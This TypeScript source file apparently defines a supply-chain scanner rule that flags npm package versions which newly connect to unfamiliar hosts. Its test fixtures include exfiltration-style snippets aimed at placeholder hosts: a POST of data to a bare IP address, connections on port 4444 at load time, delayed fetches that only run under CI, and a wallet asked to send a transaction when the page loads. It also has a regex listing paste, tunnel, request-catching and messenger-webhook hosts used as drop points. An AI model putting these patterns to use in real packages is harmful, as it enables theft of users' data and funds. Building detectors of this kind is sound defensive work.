/**
 * A package that talks to a host it never talked to. Most of it is honest, so it is only told; an address without a name,
 * a drop box, a tunnel, a messenger's hook or a name put together at run time is where stolen things are sent.
 * Over 300 lines: half are examples.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import { isOfPage } from '../../src/model/telling-places.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const networkAdded: Rule = defineRule({
  id: 'network-added',
  family: 'code',
  title: 'The package connects to a host that it did not connect to before',
  rationale: 'What leaves your machine, and what comes back, is decided by whoever holds that host.',
  remedy: 'Find out whose host it is and what is sent there.',
  level: 'notice',
  incidents: [
    {
      what: '@solana/web3.js 1.95.6 and 1.95.7: private keys sent to a host registered days before',
      when: '2024-12-02',
      url: 'https://github.com/advisories/GHSA-jcxm-7wvp-g6p5',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors'],
  kinds: {
    'odd-host': {
      level: 'review',
      about:
        'A bare address, an odd port, a paste, request-catching, tunnel, file-drop or messenger host, or a computed name.',
    },
    'odd-host-at-load': { level: 'block', about: 'Such a host, connected to when the package is loaded or installed.' },
    payment: { level: 'review', about: 'A wallet in the page is asked to pay or to sign, when a function is called.' },
    'payment-at-load': { level: 'block', about: 'The same as soon as a page loads the package.' },
    'at-load': {
      level: 'review',
      about: 'When the package is loaded or installed, at once or later, under a test or not.',
    },
  },
  flags: [
    {
      title: 'one of two addresses holds what it gives',
      before: { 'index.js': '' },
      after: { 'index.js': `fetch(globalThis.part ? 'data:,a' : 'https://collect.invalid/a');\n` },
      expect: [
        {
          kind: 'at-load',
          message: 'fetch connects to collect.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a wallet that is asked to pay as soon as the page loads, and one when a function is called',
      before: { 'index.js': '' },
      after: {
        'index.js': `async function raise() {
  const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x' + '0'.repeat(40) }] });
}
raise();
exports.pay = (transaction) => window.solana.signAndSendTransaction(transaction);
`,
      },
      expect: [
        {
          kind: 'payment-at-load',
          message: 'ethereum.request asks the wallet of the page for eth_sendTransaction',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'raise()'],
        },
        {
          kind: 'payment',
          message: 'solana.signAndSendTransaction asks the wallet of the page for signAndSendTransaction',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js', 'pay()'],
        },
      ],
    },
    {
      title: 'a request when a function is called, and one when the package is loaded',
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.ask = () => fetch('https://api.invalid/v1');\nrequire('https').get('https://count.invalid/');\n`,
      },
      expect: [
        {
          kind: 'at-load',
          message: 'https.get connects to count.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          message: 'fetch connects to api.invalid',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'ask()'],
        },
      ],
    },
    {
      title: 'a bare address when a function is called, and an odd port at load',
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.send = (body) => fetch('http://192.0.2.7/c', { method: 'POST', body });\nrequire('net').connect(4444, 'far.invalid');\nrequire('http').get('http://far.invalid:8443/x');\n`,
      },
      expect: [
        {
          kind: 'at-load',
          message: 'net.connect connects to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'odd-host-at-load',
          message: 'http.get connects to far.invalid:8443',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'odd-host',
          message: 'fetch connects to 192.0.2.7',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'send()'],
        },
      ],
    },
    {
      title: 'a stream that is connected, and a server that waits',
      before: { 'index.js': '' },
      after: {
        'index.js': `const net = require('net');
const stream = new net.Socket();
stream.connect(443, 'far.invalid');
net.createServer((socket) => socket.end()).listen(0);
`,
      },
      expect: [
        {
          kind: 'at-load',
          message: 'net.Socket().connect connects to far.invalid',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'at-load',
          message: 'net.createServer().listen waits for others to connect',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a request whose failure nobody sees, and one that waits, on some machines',
      before: { 'index.js': '' },
      after: {
        'index.js': `try {\n  fetch('https://one.invalid/');\n} catch {}\nif (process.env.CI) setTimeout(() => fetch('https://two.invalid/'), 2500);\n`,
      },
      expect: [
        {
          kind: 'at-load',
          message: 'fetch connects to one.invalid',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'at-load',
          message: 'fetch connects to two.invalid',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'addresses that hold what they give',
      before: { 'index.js': '' },
      after: {
        'index.js': `const isWhole = typeof fetch('data:,a').finally === 'function';
const make = (text) => fetch('data:text/plain,' + text);
exports.sample = isWhole && make('a');
exports.open = (path) => new XMLHttpRequest().open('GET', './' + path);
`,
      },
    },
    {
      title: 'functions of the page that are wrapped one like another: on loading, another one of them is called',
      before: { 'index.js': '' },
      after: {
        'index.js': `
const clear = 'clear';
function wrap(target, name, make) {
  const own = make(target[name]);
  target[name] = function () {
    return own(this, arguments);
  };
}
function follow(fn) {
  return function (self, args) {
    return fn.apply(self, args);
  };
}
wrap(globalThis, clear + 'Timeout', () => (self, args) => args.length);
wrap(globalThis, 'fetch', (fn) => follow(fn));
clearTimeout(0);
`,
      },
    },
    {
      title: 'the same host as before by other means, a host that the caller gives, addresses in text, the own machine',
      before: {
        'index.js': `exports.get = () => fetch('https://api.invalid/v1');\nexports.any = (url) => fetch(url);\n`,
      },
      after: {
        'index.js': `
// See https://docs.invalid/ and https://192.0.2.1/
exports.home = 'https://project.invalid/';
exports.get = () => require('https').get({ hostname: 'api.invalid', path: '/v2' });
exports.any = (url, options) => fetch(url, options);
exports.local = () => fetch('http://localhost:3000/health');
exports.parent = new (require('net').Socket)({ fd: 3 });
if (typeof window !== 'undefined') fetch('engine.wasm');
`,
      },
    },
  ],
  check({ behaviors }) {
    return behaviors.added.filter(connects).map((behavior) => {
      if (isPayment(behavior)) {
        const asks = `${behavior.api} asks the wallet of the page for ${shorten(behavior.detail ?? '')}`;
        return evidenceOf(behavior, asks, behavior.tier === 'call' ? 'payment' : 'payment-at-load');
      }
      const address = addressOf(behavior);
      return evidenceOf(behavior, describe(behavior, address), kindOf(behavior, address));
    });
  },
});

function describe({ api }: Behavior, address: string | undefined): string {
  if (address === undefined && listening.test(api)) return `${api} waits for others to connect`;
  return `${api} connects to ${address === undefined ? 'a host that is not told' : shorten(address)}`;
}

const listening = /\.listen$|^(?:Bun|Deno)\.serve$|^inspector\.open$|^repl\.start$/;
/** A stream without an end yet: its `connect` is told by itself. */
const unconnected = 'net.Socket';

function connects(behavior: Behavior): boolean {
  if (behavior.kind !== 'network' || behavior.tier === 'unreached') return false;
  if (isPayment(behavior)) return true;
  if (isOfPage(behavior.api, behavior.detail)) return false;
  const address = addressOf(behavior);
  if (address === undefined && behavior.api === unconnected) return false;
  if (address === undefined) return behavior.tier !== 'call' && !behavior.doubtful && behavior.root !== 'bin';
  return !/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1?\])(?::\d+)?$/.test(address);
}

/** What a wallet that a page finds in the browser is asked to pay or to sign. */
function isPayment({ api }: Behavior): boolean {
  return /^(?:ethereum|solana)\./.test(api);
}

function kindOf(
  { tier, root, api }: Behavior,
  address: string | undefined,
): 'odd-host' | 'odd-host-at-load' | 'at-load' | undefined {
  const early = tier !== 'call' && root !== 'bin';
  if (address !== undefined && isOdd(address)) return early ? 'odd-host-at-load' : 'odd-host';
  // A constructor that is only named makes no connection yet.
  if (address === undefined && /^[A-Z]|Socket$/.test(api)) return undefined;
  return early ? 'at-load' : undefined;
}

/** Host and port; undefined when the text does not tell the host. */
function addressOf({ detail }: Behavior): string | undefined {
  if (detail === undefined) return undefined;
  const match = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?(\[[0-9a-f:]+\](?::\d+)?|[^/?#\s]+)/i.exec(detail);
  const address = match?.[1]?.toLowerCase();
  return address === undefined || address.includes('…') || /^[$<]/.test(address) || !/[^.:][.:][^.:]|^\[/.test(address)
    ? undefined
    : address;
}

const ordinaryPorts = new Set(['80', '443', '8080']);

/** Services that take in what anybody sends, or hand out what anybody put there, without saying who that was. */
const dropPlaces =
  /(?:^|\.)(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|0x0\.st|webhook\.site|requestbin\.\w+|pipedream\.net|beeceptor\.com|interact\.sh|oast\.\w+|oastify\.com|burpcollaborator\.net|ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|loca\.lt|serveo\.net|api\.telegram\.org|discord\.com|discordapp\.com|hooks\.slack\.com|ipfs\.io|duckdns\.org|no-ip\.\w+|onion)(?::\d+)?$/;

function isOdd(address: string): boolean {
  const port = /:(\d+)$/.exec(address)?.[1];
  const host = port === undefined ? address : address.slice(0, -port.length - 1);
  if (port !== undefined && !ordinaryPorts.has(port)) return true;
  return isBareAddress(host) || dropPlaces.test(host);
}

/** Dotted, bracketed, or one number: all are addresses to a client. Private networks are somebody's own. */
function isBareAddress(host: string): boolean {
  if (/^(?:10|127|169\.254|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./.test(host)) return host === '169.254.169.254';
  return /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:]+\]|0x[0-9a-f]{8}|\d{8,10})$/.test(host);
}
